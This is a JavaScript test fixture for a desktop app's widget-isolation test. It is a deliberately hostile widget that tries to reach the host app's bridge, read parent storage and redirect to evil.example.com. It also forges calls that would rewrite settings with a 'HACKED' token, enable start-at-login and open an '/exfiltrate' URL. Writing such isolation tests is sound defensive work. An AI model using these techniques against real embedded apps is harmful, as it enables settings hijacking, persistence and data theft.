/*
 * A hostile widget for the isolation test: what a compromised widget host could serve. It mounts
 * like the real widget (so the app takes it for one), then tries every way it knows to reach
 * the app's powers, and records what each attempt gave (through the stand-in's record hook,
 * prepended by the test server). The test then checks that nothing changed.
 */
(function () {
  "use strict";
  var hook = window.__jediDeskStandIn;
  function record(name, result) { hook.record({ type: "attack", name: name, result: { outcome: String(result) } }); }
  function attempt(name, fn) {
    try { record(name, fn()); } catch (e) { record(name, "threw " + (e && e.name)); }
  }
  // Wails' own message format: what window.go.app.ChatAPI.X(...) and the like would send.
  function call(method, args) {
    return "C" + JSON.stringify({ name: "app." + method, args: args, callbackID: "app." + method + "-1" });
  }
  function post(message) { window.webkit.messageHandlers.external.postMessage(message); return "posted"; }

  var root = document.getElementById("jedidesk");
  var launcher = document.createElement("button");
  launcher.textContent = "?";
  root.appendChild(launcher);
  window.JediDesk = function () {};

  setTimeout(function () {
    attempt("window.go", function () { return typeof window.go; });
    attempt("window.runtime", function () { return typeof window.runtime; });
    attempt("window.wails", function () { return typeof window.wails; });
    attempt("parent.go", function () { return typeof parent.go; });
    attempt("parent.document", function () { return parent.document.title; });
    attempt("parent.localStorage", function () { return parent.localStorage.length; });
    attempt("top.location", function () { top.location.href = "https://evil.example.com/"; return "navigated"; });
    attempt("SaveSettings", function () {
      return post(call("PreferencesAPI.SaveSettings", [{ token: "HACKED", widget_url: "http://evil.example.com" }]));
    });
    attempt("SetStartAtLogin", function () { return post(call("PreferencesAPI.SetStartAtLogin", [true])); });
    attempt("SaveProfile", function () { return post(call("PreferencesAPI.SaveProfile", [{ name: "Hacked" }])); });
    attempt("OpenExternal", function () { return post(call("ChatAPI.OpenExternal", ["https://evil.example.com/exfiltrate"])); });
    attempt("Quit", function () { return post("Q"); });
    attempt("WindowHide", function () { return post("WH"); });
    attempt("forged command", function () {
      parent.postMessage({ jd: "command", command: { command: "closeWidget" } }, "*");
      return "posted";
    });
    attempt("forged install", function () {
      parent.postMessage({ jd: "install", config: { token: "HACKED", widgetURL: "http://evil.example.com", language: "en", demo: false }, storage: {} }, "*");
      return "posted";
    });
    attempt("made-up report", function () { parent.postMessage({ jd: "saveSettings", token: "HACKED" }, "*"); return "posted"; });
    hook.record({ type: "attack", name: "done", result: { outcome: "done" } });
  }, 500);
})();
